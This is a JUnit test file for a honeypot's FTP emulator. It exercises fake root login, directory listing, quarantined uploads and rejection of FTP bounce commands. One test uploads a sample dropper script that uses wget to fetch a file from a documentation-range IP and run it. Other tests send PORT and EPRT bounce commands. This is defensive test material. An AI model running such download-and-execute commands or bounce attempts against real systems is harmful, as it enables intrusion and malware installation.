package io.rustbucket.sensor.ftp;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.rustbucket.sensor.SensorLimits;
import io.rustbucket.sensor.listen.ConnectionGate;
import io.rustbucket.sensor.listen.Listener;
import io.rustbucket.sensor.record.Quarantine;
import io.rustbucket.sensor.record.RecordedEvents;
import io.rustbucket.sensor.record.SensorEvent;
import io.rustbucket.sensor.respond.Responder;
import io.rustbucket.sensor.respond.ResponderConfig;
import io.rustbucket.sensor.shell.FakeHost;
import io.rustbucket.sensor.shell.FakeMachine;
import io.rustbucket.sensor.shell.LoginPolicy;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.time.Clock;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ScheduledExecutorService;
import org.apache.commons.net.ftp.FTP;
import org.apache.commons.net.ftp.FTPClient;
import org.apache.commons.net.ftp.FTPFile;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The FTP emulator driven by Apache Commons Net, a real client, over real control and data connections. */
class FtpHandlerTest {
    static final String BANNER = "220 (vsFTPd 3.0.3)";
    final List<SensorEvent> events = new CopyOnWriteArrayList<>();
    final ScheduledExecutorService deadlines = Listener.deadlineScheduler();

    @TempDir
    Path dir;

    Listener listener;
    FTPClient ftp;

    @BeforeEach
    void start() throws Exception {
        SensorLimits limits = new SensorLimits(null, null, null, null, null, null, null, null, 100_000L);
        FakeMachine machine = FakeMachine.forSensor("sensor-f", null, Clock.systemUTC());
        FakeHost host = new FakeHost(
                machine,
                new LoginPolicy("list", List.of("root:toor"), null),
                new Responder(null, List.of(), "", ResponderConfig.defaults(), Clock.systemUTC()));
        listener = new Listener(
                "ftp",
                InetAddress.getLoopbackAddress(),
                0,
                new ConnectionGate(100, 10),
                limits,
                new FtpHandler(
                        host, BANNER, limits, new Quarantine(dir.resolve("quarantine"), limits.uploadMaxBytes())),
                "sensor-f",
                Clock.systemUTC(),
                events::add,
                deadlines);
        ftp = new FTPClient();
        ftp.setDefaultTimeout(5000);
        ftp.connect(InetAddress.getLoopbackAddress(), listener.port());
        assertThat(ftp.getReplyString().strip()).isEqualTo(BANNER);
    }

    @AfterEach
    void stop() throws Exception {
        if (ftp.isConnected()) {
            ftp.disconnect();
        }
        listener.close();
        deadlines.shutdownNow();
    }

    List<Map<String, Object>> recorded(String action) {
        return RecordedEvents.withAction(events, action);
    }

    @Test
    void loginListDownloadAndUploadInPassiveMode() throws Exception {
        assertThat(ftp.login("root", "wrong")).isFalse();
        assertThat(ftp.getReplyCode()).isEqualTo(530);
        assertThat(ftp.login("root", "toor")).isTrue();
        assertThat(ftp.getSystemType()).isEqualTo("UNIX Type: L8");
        assertThat(ftp.printWorkingDirectory()).isEqualTo("/root");
        ftp.enterLocalPassiveMode();
        ftp.setFileType(FTP.BINARY_FILE_TYPE);
        assertThat(ftp.changeWorkingDirectory("/etc")).isTrue();
        FTPFile[] files = ftp.listFiles();
        assertThat(Arrays.stream(files).map(FTPFile::getName)).contains("passwd", "hostname", "ssh");
        assertThat(Arrays.stream(files)
                        .filter(f -> f.getName().equals("ssh"))
                        .findFirst()
                        .orElseThrow()
                        .isDirectory())
                .isTrue();
        ByteArrayOutputStream passwd = new ByteArrayOutputStream();
        assertThat(ftp.retrieveFile("passwd", passwd)).isTrue();
        assertThat(passwd.toString()).startsWith("root:x:0:0:root:/root:/bin/bash");
        assertThat(ftp.changeWorkingDirectory("/nope")).isFalse();

        ftp.changeWorkingDirectory("/tmp");
        byte[] payload = "#!/bin/sh\nwget http://198.51.100.7/x; ./x\n".getBytes();
        assertThat(ftp.storeFile("drop.sh", new ByteArrayInputStream(payload))).isTrue();
        String sha =
                HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(payload));
        Path kept = dir.resolve("quarantine").resolve(sha);
        assertThat(kept).hasBinaryContent(payload);
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(kept)))
                .isEqualTo("rw-------");
        assertThat(ftp.listNames()).contains("drop.sh");
        // extended passive mode works too
        ftp.setUseEPSVwithIPv4(true);
        ByteArrayOutputStream back = new ByteArrayOutputStream();
        assertThat(ftp.retrieveFile("drop.sh", back)).isTrue();
        assertThat(back.toByteArray()).isEqualTo(payload);
        ftp.logout();

        await().until(() -> !recorded("file.upload").isEmpty());
        assertThat(recorded("file.upload").get(0))
                .containsEntry("file.hash.sha256", sha)
                .containsEntry("file.path", "/tmp/drop.sh");
        assertThat(recorded("login.attempt"))
                .extracting(e -> e.get("honeypot.password"))
                .containsExactly("wrong", "toor");
        assertThat(recorded("command"))
                .noneSatisfy(e -> assertThat((String) e.get("honeypot.input")).startsWith("PASS"));
    }

    @Test
    void oversizedUploadIsCutAtTheCap() throws Exception {
        assertThat(ftp.login("root", "toor")).isTrue();
        ftp.enterLocalPassiveMode();
        ftp.setFileType(FTP.BINARY_FILE_TYPE);
        ftp.storeFile("big.bin", new ByteArrayInputStream(new byte[300_000]));
        await().until(() -> !recorded("file.upload").isEmpty());
        assertThat(recorded("file.upload").get(0))
                .containsEntry("file.size", 100_000L)
                .containsEntry("event.outcome", "failure");
    }

    @Test
    void portToAThirdPartyIsRefused() throws Exception {
        assertThat(ftp.login("root", "toor")).isTrue();
        assertThat(ftp.sendCommand("PORT 192,0,2,10,0,80")).isEqualTo(500);
        assertThat(ftp.sendCommand("PORT 127,0,0,1,0,22")).isEqualTo(500); // privileged port on the client
        assertThat(ftp.sendCommand("EPRT |1|192.0.2.10|8080|")).isEqualTo(500);
        assertThat(ftp.sendCommand("LIST")).isEqualTo(425);
        // active mode back to the client itself works
        ftp.enterLocalActiveMode();
        assertThat(ftp.listNames("/etc")).contains("passwd");
        assertThat(recorded("protocol.error")).hasSizeGreaterThanOrEqualTo(3);
    }

    @Test
    void commandsBeforeLoginAndNonsense() throws Exception {
        assertThat(ftp.sendCommand("LIST")).isEqualTo(530);
        assertThat(ftp.sendCommand("PASS x")).isEqualTo(503);
        assertThat(ftp.sendCommand("\u00ff\u00fe garbage \u0000")).isEqualTo(530);
        assertThat(ftp.login("root", "toor")).isTrue();
        assertThat(ftp.sendCommand("FROB")).isEqualTo(500);
        assertThat(ftp.sendCommand("REST abc")).isEqualTo(500);
        assertThat(ftp.sendCommand("QUIT")).isEqualTo(221);
    }
}
